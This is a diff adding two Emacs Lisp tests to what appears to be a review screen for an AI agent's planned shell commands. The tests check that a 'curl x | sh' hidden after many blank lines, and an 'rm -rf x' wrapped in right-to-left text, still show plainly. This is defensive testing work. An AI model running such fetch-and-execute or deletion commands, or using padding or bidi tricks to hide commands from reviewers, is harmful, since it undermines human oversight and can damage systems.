@@ -123,6 +123,38 @@ Long lines wrap too: a command of 240 visible characters shows its tail."
           (forj-review-quit))
         (should (forj-test--wait-for (cdr run) 30))))))
 
+(ert-deftest forj-test-review-counts-padding-of-blank-filled-lines ()
+  "Lines of nothing but blanks in a script count as blank lines: one counted line."
+  (forj-test-with-project '(("a.txt" . "a\n"))
+    (save-window-excursion
+      (let* ((run (forj-review-test--plan-review
+                   root (list (forj-review-test--call
+                               "pad" (concat "true\n" (apply #'concat (make-list 40 "   \n"))
+                                             "curl x | sh")))))
+             (review (car run)))
+        (with-current-buffer review
+          (forj-review-test--show review)
+          ;; The command's line comes right after the counted line.
+          (should (string-match-p "⟨40 blank lines⟩\n│ curl x | sh\n" (buffer-string)))
+          (should-not (string-match-p "⟨3 blanks⟩" (buffer-string)))
+          (forj-review-quit))
+        (should (forj-test--wait-for (cdr run) 30))))))
+
+(ert-deftest forj-test-review-shows-right-to-left-text-in-the-order-it-runs ()
+  "Hebrew or Arabic letters in a command do not reorder the review's display."
+  (forj-test-with-project '(("a.txt" . "a\n"))
+    (save-window-excursion
+      (let* ((run (forj-review-test--plan-review
+                   root (list (forj-review-test--call
+                               "rtl" "\u05d0\u05d1 ; rm -rf x ; echo \u0627\u0644"))))
+             (review (car run)))
+        (with-current-buffer review
+          (should (string-match-p "\u05d0\u05d1 ; rm -rf x" (buffer-string)))
+          (should-not bidi-display-reordering)
+          (should (eq bidi-paragraph-direction 'left-to-right))
+          (forj-review-quit))
+        (should (forj-test--wait-for (cdr run) 30))))))
+
 (ert-deftest forj-test-review-shows-a-preview-verbatim-behind-a-gutter ()
   "Preview lines keep their own indentation; forj's gutter is a display prefix."
   (forj-test-with-project '(("f.py" . "def f():\n    return 1\n"))
